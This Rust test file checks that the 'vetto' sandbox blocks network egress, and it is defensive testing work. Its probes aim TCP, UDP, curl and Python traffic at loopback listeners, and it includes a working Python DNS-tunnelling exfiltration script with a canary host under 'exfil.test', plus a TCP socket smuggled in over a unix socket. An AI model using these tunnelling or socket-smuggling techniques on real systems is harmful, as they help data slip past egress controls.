//! Network egress when the network is off (the default): TCP and UDP to a
//! listener the test runs on loopback, which stands for any server.

use std::io::{ErrorKind, Read};
use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

use crate::util::{Tier, World};
use crate::{at_every_tier, require};

/// Connections the listener has accepted so far, with what they sent.
fn accepted(l: &TcpListener) -> Vec<String> {
    l.set_nonblocking(true).unwrap();
    let mut got = Vec::new();
    loop {
        match l.accept() {
            Ok((mut s, _)) => {
                s.set_nonblocking(false).unwrap();
                s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
                let mut buf = String::new();
                let _ = s.read_to_string(&mut buf);
                got.push(buf);
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => return got,
            Err(e) => panic!("accept: {e}"),
        }
    }
}

/// Runs as an unprivileged user: connect to a TCP listener on 127.0.0.1
/// (and ::1 when the host has it) and send a line. Evidence: bare, the
/// listener accepts the probe's line; sandboxed, the listener accepts
/// nothing: the job's loopback is its own (FULL: its network namespace;
/// FS-ONLY: the namespace that leads nowhere, where vetto makes its
/// sockets), where nothing listens (ECONNREFUSED), and it may create
/// sockets freely. (FS-ONLY without user namespaces refuses the socket.)
fn tcp_connect_to_loopback_is_blocked(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let mut listeners = vec![TcpListener::bind("127.0.0.1:0").unwrap()];
    if let Ok(l6) = TcpListener::bind("[::1]:0") {
        listeners.push(l6);
    }
    for l in &listeners {
        let addr = l.local_addr().unwrap().to_string();
        w.probe_bare(&["connect-tcp", &addr]).assert_ok();
        assert_eq!(
            accepted(l).len(),
            1,
            "control: the bare connection did not arrive at {addr}"
        );

        let p = w.probe_sandboxed(&["connect-tcp", &addr]);
        match tier {
            Tier::FsOnly if !dead_net() => p.assert_blocked(),
            _ => p.assert_blocked_with(&["ECONNREFUSED"]),
        };
        assert_eq!(
            accepted(l),
            Vec::<String>::new(),
            "a sandboxed connection reached {addr} at tier {tier}\n{}",
            p.out.dump()
        );
    }
    w.probe_bare(&["socket-inet"]).assert_ok();
    let p = w.probe_sandboxed(&["socket-inet"]);
    match tier {
        Tier::FsOnly if !dead_net() => p.assert_blocked(),
        _ => p.assert_ok(),
    };
}
at_every_tier!(tcp_connect_to_loopback_is_blocked);

/// FS-ONLY makes the job's internet sockets in a namespace of vetto's
/// (`sandbox::dead_net`), which needs unprivileged user namespaces.
fn dead_net() -> bool {
    crate::util::check(crate::util::Feature::Userns).is_ok()
}

/// Runs as an unprivileged user: the same with the tools a job would use
/// (`curl`, python's socket module), which must fail without reaching the
/// listener.
fn tcp_connect_with_ordinary_tools_is_blocked(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let script = format!(
        "python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\", {port}), 3); s.sendall(b\"py\")'; \
         command -v curl >/dev/null && curl -s -m 3 -o /dev/null http://127.0.0.1:{port}/; echo script-finished"
    );
    let out = w.sh_sandboxed(&script);
    out.assert_ran().assert_stdout_contains("script-finished");
    assert!(
        accepted(&l).is_empty(),
        "a sandboxed tool reached the listener\n{}",
        out.dump()
    );
}
at_every_tier!(tcp_connect_with_ordinary_tools_is_blocked);

/// Runs as an unprivileged user: send a UDP datagram to 127.0.0.1 (DNS
/// tunnelling, syslog, statsd…). Evidence: bare, it arrives; sandboxed,
/// nothing arrives: at FULL it goes to the sandbox's own loopback (so the
/// probe may report success) and is lost there; at FS-ONLY the socket is
/// made in vetto's network namespace that leads nowhere, where it is lost
/// the same way, or, without user namespaces, refused.
fn udp_send_to_loopback_is_blocked(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_nonblocking(true).unwrap();
    let addr = sock.local_addr().unwrap().to_string();
    let mut buf = [0u8; 512];

    w.probe_bare(&["udp-send", &addr]).assert_ok();
    // Loopback delivery is synchronous: the datagram is queued before the probe exits.
    let (n, _) = sock
        .recv_from(&mut buf)
        .expect("control: the bare datagram did not arrive");
    assert!(n > 0);

    let p = w.probe_sandboxed(&["udp-send", &addr]);
    if tier == Tier::FsOnly && crate::util::check(crate::util::Feature::Userns).is_err() {
        p.assert_blocked();
    } else {
        p.out.assert_ran();
    }
    match sock.recv_from(&mut buf) {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!(
            "a sandboxed datagram arrived at tier {tier}: {other:?}\n{}",
            p.out.dump()
        ),
    }
}
at_every_tier!(udp_send_to_loopback_is_blocked);

/// The DNS-tunnelling job of
/// [`dns_tunnel_over_tcp_with_the_network_off_never_leaves`]: for each
/// `HOST:PORT` argument after the first (a name), a query for that name
/// over TCP, each
/// message after its two-byte length (RFC 1035 4.2.2, as `dig +tcp` and
/// glibc's `use-vc` send it). Prints `HOST:PORT rcode N addr A.B.C.D`
/// for the answer of a resolver on port 53 (the last four bytes: the
/// address, where there is one), `HOST:PORT sent` when the query went out to
/// another port (not waiting for an answer), `HOST:PORT refused ERRNO`
/// when it could not be sent.
pub(super) const PY_TCP_TUNNEL: &str = r#"
import socket, struct, sys
name = sys.argv[1]
q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b''.join(
    bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
for target in sys.argv[2:]:
    host, port = target.rsplit(':', 1)
    try:
        s = socket.create_connection((host, int(port)), 20)
        s.sendall(struct.pack('>H', len(q)) + q)
        if port != '53':
            s.close()
            print(target, 'sent')
            continue
        n = s.recv(2)
        r = s.recv(struct.unpack('>H', n)[0])
        print(target, 'rcode', r[3] & 15, 'addr', '.'.join(map(str, r[-4:])))
    except OSError as e:
        print(target, 'refused', e.errno)
"#;

/// Runs as an unprivileged user, with the network off (the default): DNS
/// tunnelling over TCP — the data rides in the queried name,
/// `<canary>.exfil.test` — never leaves. Bare, a stand-in resolver on the
/// host's loopback receives the canary. Sandboxed, nothing arrives there:
/// - at FULL the job's loopback is its own (`ECONNREFUSED`), and the
///   sandbox's resolver address, `127.0.0.53:53`, is vetto's stub, which
///   answers NXDOMAIN over TCP and records the name with python as the
///   process;
/// - at FS-ONLY the socket is made in vetto's namespace that leads
///   nowhere: the stand-in's port is closed there (`ECONNREFUSED`), and a
///   connect to port 53 is refused and recorded (`net-egress-blocked`)
///   with python: no query is ever written, so no name exists to record
///   (UDP lookups are named there, see
///   `a_refused_lookup_at_fs_only_with_the_network_off_names_the_host`).
fn dns_tunnel_over_tcp_with_the_network_off_never_leaves(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    w.write(&w.project.join("tunnel.py"), PY_TCP_TUNNEL);
    let resolver = TcpListener::bind("127.0.0.1:0").unwrap();
    let stand_in = resolver.local_addr().unwrap().to_string();
    let canary = format!("vt{}x{}.exfil.test", std::process::id(), line!());
    // The stand-in never answers; the bare query is shown arriving.
    w.bare(&["python3", "tunnel.py", &canary, &stand_in])
        .run()
        .assert_success()
        .assert_stdout_contains(&format!("{stand_in} sent"));
    let got = accepted(&resolver);
    assert!(
        got.iter()
            .any(|q| q.contains(canary.split('.').next().unwrap())),
        "control: the bare query did not arrive: {got:?}"
    );

    let dir = w.root.join("reports");
    let out = w
        .sandboxed_with(
            &["--report-dir", dir.to_str().unwrap()],
            &["python3", "tunnel.py", &canary, &stand_in, "127.0.0.53:53"],
        )
        .run();
    out.assert_ran();
    assert_eq!(
        accepted(&resolver),
        Vec::<String>::new(),
        "a sandboxed query reached the stand-in resolver\n{}",
        out.dump()
    );
    let violations: Vec<serde_json::Value> = std::fs::read_to_string(dir.join("session.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|v| v["type"] == "violation")
        .collect();
    let by_python = |v: &&serde_json::Value| v["process"].to_string().contains("python3");
    match tier {
        Tier::Full | Tier::FullCreationsAfter => {
            out.assert_stdout_contains(&format!("{stand_in} refused 111"))
                .assert_stdout_contains("127.0.0.53:53 rcode 3");
            assert!(
                violations
                    .iter()
                    .filter(by_python)
                    .any(|v| v["rule"] == "net-egress-blocked"
                        && v["target"].to_string().contains(&canary)),
                "the TCP query is not recorded by name with python3\n{violations:#?}\n{}",
                out.dump()
            );
            let err = out.stderr();
            assert!(
                err.lines().any(|l| l
                    .contains(&format!("net-egress-blocked {canary} (a name lookup)"))
                    && l.contains(&format!("--allow-domain {canary}"))),
                "{err}"
            );
        }
        Tier::FsOnly => {
            out.assert_stdout_contains(&format!("{stand_in} refused 111"))
                .assert_stdout_contains("127.0.0.53:53 refused 111");
            assert!(
                violations
                    .iter()
                    .filter(by_python)
                    .any(|v| v["rule"] == "net-egress-blocked"
                        && v["target"].to_string().contains("127.0.0.53")),
                "the refused socket is not recorded with python3\n{violations:#?}\n{}",
                out.dump()
            );
        }
    }
}
at_every_tier!(dns_tunnel_over_tcp_with_the_network_off_never_leaves);

/// Runs as an unprivileged user: with `--net host` said explicitly, the
/// same connection reaches the listener (the network switch is real, and
/// the blocks above come from `--net off`).
fn net_host_allows_loopback_connections(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = l.local_addr().unwrap().to_string();
    w.probe_sandboxed_with(&["--net", "host"], &["connect-tcp", &addr])
        .assert_ok();
    assert_eq!(
        accepted(&l).len(),
        1,
        "the --net host connection did not arrive"
    );
}
at_every_tier!(net_host_allows_loopback_connections);

/// Runs as an unprivileged user, at FS-ONLY (where the network is off by
/// refusing `socket()`): a host service the policy lets the job talk to
/// (a unix socket in the project) hands the job a TCP socket it could not
/// create itself, and the job connects it to a listener on 127.0.0.1.
/// Landlock would refuse that connect; the supervisor, which performs
/// notified connects itself, must refuse it too. Evidence: bare, the
/// listener receives the line; sandboxed, it receives nothing.
#[test]
fn a_smuggled_tcp_socket_does_not_connect_at_fs_only() {
    use nix::sys::socket::{
        AddressFamily, ControlMessage, MsgFlags, SockFlag, SockType, sendmsg, socket,
    };
    use std::os::fd::AsRawFd;
    use std::os::unix::net::UnixListener;
    require!(Tier::FsOnly.feature());
    let w = World::at(Tier::FsOnly);
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    let path = w.project.join("fd.sock");
    let service = UnixListener::bind(&path).unwrap();
    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    // Each client gets one fresh, unconnected TCP socket.
    std::thread::spawn(move || {
        for client in service.incoming().flatten() {
            let Ok(fd) = socket(
                AddressFamily::Inet,
                SockType::Stream,
                SockFlag::empty(),
                None,
            ) else {
                return;
            };
            let fds = [fd.as_raw_fd()];
            let _ = sendmsg::<()>(
                client.as_raw_fd(),
                &[std::io::IoSlice::new(b"x")],
                &[ControlMessage::ScmRights(&fds)],
                MsgFlags::empty(),
                None,
            );
        }
    });
    let script = format!(
        "python3 -c \"\nimport socket\nu = socket.socket(socket.AF_UNIX)\nu.connect('fd.sock')\n\
         _, fds, _, _ = socket.recv_fds(u, 1, 1)\ns = socket.socket(fileno=fds[0])\ntry:\n\
         \x20   s.connect(('127.0.0.1', {port})); s.sendall(b'smuggled'); print('sent')\n\
         except OSError as e:\n\x20   print('refused', e.errno)\n\""
    );

    w.sh_bare(&script).assert_stdout_contains("sent");
    assert_eq!(
        accepted(&tcp),
        vec!["smuggled".to_string()],
        "control: bare, it connects"
    );

    let out = w.sh_sandboxed(&script);
    out.assert_ran().assert_stdout_contains("refused");
    assert!(
        accepted(&tcp).is_empty(),
        "the smuggled socket connected\n{}",
        out.dump()
    );
}
